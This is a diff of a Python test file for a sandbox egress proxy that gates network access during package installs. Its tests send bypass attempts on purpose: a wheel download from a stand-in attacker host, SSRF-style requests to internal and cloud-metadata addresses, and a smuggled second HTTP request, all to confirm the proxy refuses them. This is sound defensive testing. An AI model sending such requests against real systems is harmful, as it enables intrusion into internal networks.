@@ -4,9 +4,7 @@ from __future__ import annotations
 
 import socket
 import ssl
-import subprocess
-import sys
-import urllib.parse
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -16,8 +14,12 @@ from hypothesis import strategies as st
 
 from gate.errors import UsageError
 from gate.model.behaviour import BehaviourKind
-from gate.sandbox.egress import Allowed, Proxy, RefusedError, behaviours, canonical, public
-from gate.settings import load
+from gate.model.run import Completeness, Outcome, Probe, RunRecord
+from gate.sandbox.egress import Allowed, Proxy, RefusedError, canonical, public
+from gate.sandbox.egress_rules import Own, metadata, parse
+from gate.sandbox.egress_upstream import Upstreams
+from gate.trace.view import behaviours
+from tests.package_index import serving
 
 ALLOWED = Allowed.of(["index.example", "*.files.example"], [443])
 PUBLIC = "93.184.216.34"
@@ -30,7 +32,7 @@ async def _nowhere(host: str, port: int) -> list[str]:
 
 @pytest.fixture
 def proxy() -> Iterator[Proxy]:
-    with Proxy(ALLOWED, resolver=_nowhere) as running:
+    with Proxy(ALLOWED, resolver=_nowhere, listen=True) as running:
         yield running
 
 
@@ -42,6 +44,23 @@ def _ask(proxy: Proxy, head: bytes, then: bytes = b"") -> bytes:
             link.sendall(then)
             answer += link.recv(4096)
         return answer
+
+
+def _run(proxy: Proxy) -> RunRecord:
+    """The installing run that made these attempts."""
+    probe = Probe(id="i", phase="install", target="install", path=None, argv=("pip",), driver=False)
+    return RunRecord(
+        probe=probe,
+        side="head",
+        outcome=Outcome.EXITED_NONZERO,
+        exit_code=1,
+        seconds=1.0,
+        peak_memory=None,
+        completed=True,
+        trace=None,
+        completeness=Completeness(),
+        refused=tuple(proxy.refusals),
+    )
 
 
 def _connect(place: bytes, *headers: bytes) -> bytes:
@@ -92,15 +111,16 @@ BYPASSES = {
 def test_a_way_around_is_refused_and_told(name: str, proxy: Proxy) -> None:
     assert _ask(proxy, BYPASSES[name]).startswith(b"HTTP/1.1 403 ")
     assert len(proxy.refusals) == 1
-    (told,) = behaviours(proxy.refusals)
-    assert (told.kind, told.denied) == (BehaviourKind.CONNECT, True)
+    (told,) = [b for b in behaviours(_run(proxy)) if b.kind is BehaviourKind.CONNECT]
+    assert told.denied
     assert told.detail["why"]
 
 
 @pytest.mark.parametrize("place", [b"index.example:443", b"INDEX.Example.:443", b"a.b.files.example:443"])
 def test_the_same_name_in_another_writing_is_looked_up(place: bytes, proxy: Proxy) -> None:
     _ask(proxy, _connect(place))
-    assert [refusal.why for refusal in proxy.refusals] == ["OSError"]  # it came as far as the look-up
+    assert not proxy.refusals  # it came as far as the look-up
+    assert "no such host" in proxy.failures[0]
 
 
 @pytest.mark.parametrize(
@@ -114,7 +134,7 @@ def test_a_name_that_leads_inside_is_refused(address: str) -> None:
     async def inside(host: str, port: int) -> list[str]:
         return [PUBLIC, address]  # one good one does not help
 
-    with Proxy(ALLOWED, resolver=inside) as proxy:
+    with Proxy(ALLOWED, resolver=inside, listen=True) as proxy:
         assert _ask(proxy, _connect(b"index.example:443")).startswith(b"HTTP/1.1 403 ")
         assert "not public" in proxy.refusals[0].why
     assert not public(address)
@@ -141,14 +161,14 @@ def test_what_follows_must_be_tls_for_the_same_name(first: bytes, why: str) -> N
     async def outside(host: str, port: int) -> list[str]:
         return [PUBLIC]
 
-    with Proxy(ALLOWED, resolver=outside) as proxy:
+    with Proxy(ALLOWED, resolver=outside, listen=True) as proxy:
         assert _ask(proxy, _connect(b"index.example:443"), first).startswith(b"HTTP/1.1 200 ")
     assert why in proxy.refusals[0].why
     assert not proxy.served
 
 
 def test_an_empty_list_allows_nothing() -> None:
-    with Proxy(Allowed.of([], [443]), resolver=_nowhere) as proxy:
+    with Proxy(Allowed.of([], [443]), resolver=_nowhere, listen=True) as proxy:
         assert _ask(proxy, _connect(b"index.example:443")).startswith(b"HTTP/1.1 403 ")
 
 
@@ -178,42 +198,181 @@ def test_a_canonical_name_is_plain_and_stays_itself(text: str) -> None:
     assert set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-.")
 
 
-def test_setup_that_is_not_built_yet_is_said() -> None:
-    with pytest.raises(UsageError, match="not built yet"):
-        load(environ={"GATE_SANDBOX_SETUP": "requirements"})
+def test_attempts_are_named_as_they_were_written(proxy: Proxy) -> None:
+    _ask(proxy, b"GET http://cdn.attacker.example/x.whl HTTP/1.1\r\nHost: cdn.attacker.example\r\n\r\n")
+    _ask(proxy, _connect(b"evil.attacker.example:8443"))
+    _ask(proxy, b"\x16\x03\x01 not a request\r\n\r\n")
+    assert [r.asked for r in proxy.refusals] == [
+        "cdn.attacker.example:80",
+        "evil.attacker.example:8443",
+        "?",
+    ]
 
 
-@pytest.mark.slow
-def test_a_real_package_index_answers_through_it(tmp_path: Path) -> None:
-    told = subprocess.run(
-        [sys.executable, "-m", "pip", "config", "get", "global.index-url"], capture_output=True, text=True
-    )
-    index = told.stdout.strip() or "https://pypi.org/simple"
-    host = urllib.parse.urlsplit(index).hostname or ""
-    try:
-        reachable = all(public(str(entry[4][0])) for entry in socket.getaddrinfo(host, 443))
-    except OSError:
-        reachable = False
-    if not reachable or urllib.parse.urlsplit(index).scheme != "https":
-        pytest.skip("no package index on the public Internet is configured and reachable here")
-    with Proxy(Allowed.of([host, "*." + host, "files.pythonhosted.org"], [443])) as proxy:
-        done = subprocess.run(
-            [
-                *(
-                    sys.executable,
-                    "-m",
-                    "pip",
-                    "--proxy",
-                    f"http://127.0.0.1:{proxy.port}",
-                    "download",
-                    "six",
-                ),
-                *("--isolated", "--no-deps", "--no-cache-dir", "--index-url", index, "-d", str(tmp_path)),
-            ],
-            capture_output=True,
-            text=True,
-            timeout=120,
-        )
-        assert done.returncode == 0, (done.stderr[-500:], proxy.refusals)
-        assert host in proxy.served
+def test_an_own_place_may_be_inside_and_without_tls() -> None:
+    with serving() as index:
+        index.files["a-1.whl"] = b"wheel" * 40_000
+        own = Own.of(index.place, inside=True)
+        with Proxy(Allowed.of([], [443], [own])) as proxy, proxy.dial() as link:
+            link.settimeout(5)
+            head = f"GET {index.place}/files/a-1.whl HTTP/1.1\r\nHost: 127.0.0.1:{index.port}\r\n"
+            # a second request behind the first one goes nowhere
+            again = f"GET {index.place}/second HTTP/1.1\r\nHost: 127.0.0.1:{index.port}\r\n\r\n"
+            link.sendall(f"{head}X-Smuggled: 1\r\n\r\n{again}".encode())
+            got = b""
+            while piece := link.recv(1 << 16):
+                got += piece
+        assert got.partition(b"\r\n\r\n")[2] == b"wheel" * 40_000
+        assert index.asked == ["/files/a-1.whl"]
         assert not proxy.refusals
+
+
+@pytest.mark.parametrize(
+    "request_line",
+    [
+        b"GET http://127.0.0.1:1/ HTTP/1.1",
+        b"GET http://10.0.0.8:8080/ HTTP/1.1",
+        b"POST http://10.0.0.9:8080/ HTTP/1.1",
+        b"GET http://10.0.0.9:8080@203.0.113.5/ HTTP/1.1",
+        b"GET https://10.0.0.9:8080/ HTTP/1.1",
+        b"GET http://[::ffff:10.0.0.9]:8080/ HTTP/1.1",
+        b"GET http://10.0.0.09:8080/ HTTP/1.1",
+        b"GET http://index.example/ HTTP/1.1",
+    ],
+)
+def test_next_to_an_own_place_nothing_is_allowed(request_line: bytes) -> None:
+    with Proxy(
+        Allowed.of(["index.example"], [443], [Own.of("http://10.0.0.9:8080", inside=True)]),
+        resolver=_nowhere,
+        listen=True,
+    ) as proxy:
+        assert _ask(proxy, request_line + b"\r\n\r\n").startswith(b"HTTP/1.1 403 ")
+    assert len(proxy.refusals) == 1
+
+
+def test_an_own_place_does_not_lead_inside_unless_said_so_and_never_to_metadata() -> None:
+    async def inside(host: str, port: int) -> list[str]:
+        return ["10.1.2.3"]
+
+    async def link_local(host: str, port: int) -> list[str]:
+        return ["169.254.169.254"]
+
+    head = b"GET http://mirror.example:8080/simple/ HTTP/1.1\r\n\r\n"
+    for resolver, said in ((inside, False), (link_local, True)):
+        own = Own.of("http://mirror.example:8080", inside=said)
+        with Proxy(Allowed.of([], [443], [own]), resolver=resolver, listen=True) as proxy:
+            assert _ask(proxy, head).startswith(b"HTTP/1.1 403 ")
+        assert "not public" in proxy.refusals[0].why
+    assert metadata("::ffff:169.254.169.254")
+    assert metadata("fd00:ec2::254")
+    assert not metadata("10.1.2.3")
+
+
+@pytest.mark.parametrize(
+    "text", ["ftp://x.example", "user@", "x_y.example", "host:port", "", "a.example:99999"]
+)
+def test_what_is_no_place_is_refused(text: str) -> None:
+    with pytest.raises(RefusedError):
+        Own.of(text, inside=True)
+
+
+def test_own_places_are_read() -> None:
+    assert Own.of("Mirror.Example.", inside=True) == Own(host="mirror.example", port=443, inside=True)
+    assert Own.of("10.0.0.9:8080", inside=True).port == 8080
+    assert Own.of("http://10.0.0.9", inside=True) == Own(host="10.0.0.9", port=80, inside=True, plain=True)
+    assert Own.of("https://[fd00::9]:8443/simple", inside=False).host == "fd00::9"
+    wanted = parse(_connect(b"[fd00::9]:8443"), Allowed.of([], [], [Own.of("[fd00::9]:8443", inside=True)]))
+    assert (wanted.host, wanted.port) == ("fd00::9", 8443)
+
+
+def test_no_more_is_fetched_than_may_be() -> None:
+    with serving() as index:
+        index.files["big-1.whl"] = bytes(4 << 20)
+        own = Own.of(index.place, inside=True)
+        with Proxy(Allowed.of([], [443], [own]), most=1 << 20) as proxy, proxy.dial() as link:
+            link.settimeout(5)
+            link.sendall(f"GET {index.place}/files/big-1.whl HTTP/1.1\r\n\r\n".encode())
+            got = 0
+            while piece := link.recv(1 << 16):
+                got += len(piece)
+        assert proxy.too_much
+        assert got <= 1 << 20
+
+
+class _Company:
+    """An HTTP proxy of a made-up company network: notes what it is asked, answers everything itself."""
+
+    def __init__(self, answer: bytes) -> None:
+        self._server = socket.create_server(("127.0.0.1", 0))
+        self.port: int = self._server.getsockname()[1]
+        self.heard = b""
+        self._answer = answer
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        link, _ = self._server.accept()
+        with link:
+            link.settimeout(5)
+            while b"\r\n\r\n" not in self.heard:
+                self.heard += link.recv(4096)
+            link.sendall(self._answer)
+            while data := link.recv(4096):
+                self.heard += data
+
+    def close(self) -> None:
+        self._thread.join(5)
+        self._server.close()
+
+
+def test_the_way_out_may_be_a_proxy_of_this_network() -> None:
+    company = _Company(b"HTTP/1.1 200 ok\r\n\r\n")
+    upstream = Upstreams.of({"HTTPS_PROXY": f"http://me:p%40ss@127.0.0.1:{company.port}"})
+    with Proxy(ALLOWED, resolver=_nowhere, upstream=upstream) as proxy, proxy.dial() as link:
+        link.settimeout(5)
+        link.sendall(_connect(b"index.example:443"))
+        assert link.recv(4096).startswith(b"HTTP/1.1 200 ")
+        link.sendall(_hello("index.example"))
+        for _ in range(100):
+            if b"\x16\x03" in company.heard:
+                break
+            threading.Event().wait(0.05)
+    company.close()
+    head, _, rest = company.heard.partition(b"\r\n\r\n")
+    assert head.startswith(b"CONNECT index.example:443 HTTP/1.1")
+    assert b"Proxy-Authorization: Basic bWU6cEBzcw==" in head
+    assert rest.startswith(b"\x16\x03")
+    assert not proxy.refusals
+
+
+def test_a_proxy_that_says_no_is_a_failure_of_ours() -> None:
+    company = _Company(b"HTTP/1.1 407 who are you\r\n\r\n")
+    upstream = Upstreams.of({"https_proxy": f"127.0.0.1:{company.port}"})
+    with Proxy(ALLOWED, resolver=_nowhere, upstream=upstream) as proxy, proxy.dial() as link:
+        link.settimeout(5)
+        link.sendall(_connect(b"index.example:443"))
+        link.recv(4096)
+        link.sendall(_hello("index.example"))
+        assert link.recv(4096) == b""
+    company.close()
+    assert "407" in proxy.failures[0]
+
+
+def test_proxies_of_this_network_are_chosen_as_everybody_does() -> None:
+    table = {
+        "HTTPS_PROXY": "http://a.example:3128",
+        "http_proxy": "http://b.example",
+        "NO_PROXY": "mirror.example,10.0.0.9",
+    }
+    chosen = Upstreams.of(table)
+    by = chosen.to("index.example", 443, plain=False)
+    assert by is not None
+    assert (by.host, by.port) == ("a.example", 3128)
+    plain = chosen.to("index.example", 80, plain=True)
+    assert plain is not None
+    assert (plain.host, plain.port) == ("b.example", 80)
+    assert chosen.to("mirror.example", 443, plain=False) is None
+    assert chosen.to("10.0.0.9", 80, plain=True) is None
+    assert Upstreams.of({}).to("index.example", 443, plain=False) is None
+    with pytest.raises(UsageError):
+        Upstreams.of({"HTTPS_PROXY": "socks5://a.example"}).check()
